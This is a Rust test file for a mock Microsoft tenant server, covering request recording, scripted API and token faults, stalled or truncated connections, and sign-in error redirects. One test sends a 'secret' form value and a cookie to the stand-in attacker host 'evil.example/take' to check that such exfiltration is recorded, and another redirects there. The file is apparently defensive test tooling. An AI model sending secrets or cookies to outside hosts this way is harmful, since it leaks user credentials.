//! The record of what arrived, and the faults that tests script.

use std::time::{Duration, Instant};

use super::support::https::Request;
use super::support::tenant::*;
use super::{API, asked, sent, start};

fn six_files() -> String {
    format!("{API}/alerts/{}/files", alerts::SIX_FILES)
}

async fn files(tenant: &SimulatedTenant) -> super::Reply {
    asked(tenant, &AccessClaims::default(), &six_files()).await
}

#[tokio::test]
async fn every_request_is_recorded_with_its_host_headers_and_body() {
    let tenant = start();
    let request = Request::post("https://evil.example/take?a=1%202", "secret=%C3%A9".to_owned());
    assert_eq!(sent(&tenant, request.header("cookie", "a=b").header("referer", "https://x/")).await.status, 200);
    let [recorded] = tenant.requests().try_into().expect("one request");
    assert_eq!((recorded.method.as_str(), recorded.host.as_str()), ("POST", "evil.example"));
    assert_eq!((recorded.path.as_str(), recorded.query_value("a").as_deref()), ("/take", Some("1 2")));
    assert_eq!(recorded.form_value("secret").as_deref(), Some("é"));
    assert_eq!((recorded.header("cookie"), recorded.header("referer")), (Some("a=b"), Some("https://x/")));
    assert!(tenant.api_calls().is_empty() && tenant.token_requests().is_empty());
    tenant.forget_requests();
    assert!(tenant.requests().is_empty());
}

#[tokio::test]
async fn whoever_waits_for_a_request_is_woken_by_it() {
    let tenant = start();
    let waiting = tokio::spawn({
        let tenant = tenant.clone();
        async move { tenant.wait_for_request(Duration::from_secs(20), |request| request.path == "/here").await }
    });
    sent(&tenant, Request::get("https://evil.example/here")).await;
    assert!(waiting.await.expect("no panic").is_some());
    assert!(tenant.wait_for_request(Duration::from_millis(1), |request| request.path == "/there").await.is_none());
}

#[tokio::test]
async fn a_fault_hits_as_often_as_it_was_told_and_only_its_target() {
    let tenant = start();
    tenant.fault(Fault::api(Action::Respond(Answer::too_many_requests("Thu, 01 Jan 2026 00:00:00 GMT"))).times(2));
    tenant.fault(Fault::token(Action::Respond(Answer::token_error("invalid_grant", 700_084, None))));
    let first = files(&tenant).await;
    assert_eq!((first.status, first.header("retry-after")), (429, Some("Thu, 01 Jan 2026 00:00:00 GMT")));
    assert_eq!(files(&tenant).await.status, 429);
    assert_eq!(files(&tenant).await.status, 200);
    let token = format!("https://login.microsoftonline.com/{CONTOSO}/oauth2/v2.0/token");
    assert_eq!(sent(&tenant, Request::post(&token, String::new())).await.json()["error_codes"][0], 700_084);

    tenant.fault(Fault::api(Action::Respond(Answer::empty(500))).on_path("/stats").always());
    assert_eq!(files(&tenant).await.status, 200);
    let stats = format!("{API}/files/x/stats");
    for _ in 0..3 {
        assert_eq!(sent(&tenant, Request::get(&stats)).await.status, 500);
    }
    tenant.clear_faults();
    assert_eq!(sent(&tenant, Request::get(&stats)).await.status, 401);
}

#[tokio::test]
async fn answers_can_be_anything_a_proxy_or_a_broken_server_says() {
    let tenant = start();
    for (answer, status, content_type) in [
        (Answer::proxy_page(), 200, Some("text/html")),
        (Answer::empty(200), 200, None),
        (Answer::json(200, "{\"value\":[").with_content_type("text/plain"), 200, Some("text/plain")),
        (Answer::redirect("https://evil.example/"), 302, None),
        (Answer::api_error(503, "ServiceUnavailable"), 503, Some("application/json; odata.metadata=minimal")),
    ] {
        tenant.fault(Fault::api(Action::Respond(answer)));
        let reply = files(&tenant).await;
        assert_eq!((reply.status, reply.header("content-type")), (status, content_type));
    }
}

#[tokio::test]
async fn connections_break_stall_and_run_on_as_scripted() {
    let tenant = start();
    let whole = files(&tenant).await;
    tenant.fault(Fault::api(Action::Truncate));
    let half = files(&tenant).await;
    assert_eq!(half.header("content-length"), whole.header("content-length"));
    assert_eq!(half.body.len(), whole.body.len() / 2);

    tenant.fault(Fault::api(Action::Close));
    assert!(Request::get(&six_files()).send(tenant.port(), tenant.certificate()).await.is_err());

    let before = Instant::now();
    tenant.fault(Fault::api(Action::Delay(Duration::from_millis(60))));
    assert_eq!(files(&tenant).await.body.len(), whole.body.len());
    assert!(before.elapsed() >= Duration::from_millis(60));

    tenant.fault(Fault::api(Action::Trickle(Duration::from_micros(1))));
    tenant.limit(CallLimits { per_minute: 0, per_hour: 0 });
    assert_eq!(files(&tenant).await.status, 429);

    tenant.fault(Fault::api(Action::Endless(1 << 20)));
    assert!(files(&tenant).await.body.len() > 1_000_000);

    tenant.fault(Fault::api(Action::Hang));
    let patience = Duration::from_secs(1);
    assert!(tokio::time::timeout(patience, files(&tenant)).await.is_err());
    assert_eq!(tenant.api_calls().len(), 7);
}

#[tokio::test]
async fn a_gate_holds_an_answer_back_and_not_those_of_others() {
    let tenant = start();
    let gate = Gate::closed();
    tenant.fault(Fault::api(Action::Hold(gate.clone())));
    let held = tokio::spawn({
        let tenant = tenant.clone();
        async move { files(&tenant).await }
    });
    assert!(tenant.wait_for_request(Duration::from_secs(20), |_| true).await.is_some());
    assert_eq!(files(&tenant).await.status, 200);
    assert!(!held.is_finished(), "it passed a closed gate");
    gate.open();
    assert_eq!(held.await.expect("no panic").status, 200);
}

#[tokio::test]
async fn an_authorize_fault_comes_back_in_the_fragment_with_the_state() {
    let tenant = start();
    tenant.fault(Fault::authorize(Action::SignInError { error: "temporarily_unavailable", number: 90_033 }));
    let url = format!(
        "https://login.microsoftonline.com/{CONTOSO}/oauth2/v2.0/authorize?response_mode=fragment&state=s&redirect_uri=https%3A%2F%2Fx.chromiumapp.org%2F"
    );
    let back = sent(&tenant, Request::get(&url)).await;
    let location = back.header("location").expect("a way back");
    assert!(location.starts_with("https://x.chromiumapp.org/#error=temporarily_unavailable&"), "{location}");
    assert!(location.contains("AADSTS90033") && location.contains("&state=s&"), "{location}");
}

#[tokio::test]
async fn the_date_of_an_answer_is_the_servers_own() {
    let tenant = start();
    let before = files(&tenant).await.header("date").expect("a date").to_owned();
    tenant.advance(Duration::from_secs(366 * 86_400));
    let after = files(&tenant).await.header("date").map_or_else(String::new, str::to_owned);
    assert!(before.ends_with(" GMT") && before.len() == "Thu, 01 Jan 2026 00:00:00 GMT".len(), "{before}");
    assert_ne!(before[12..16], after[12..16], "{before} and a year later {after}");
}
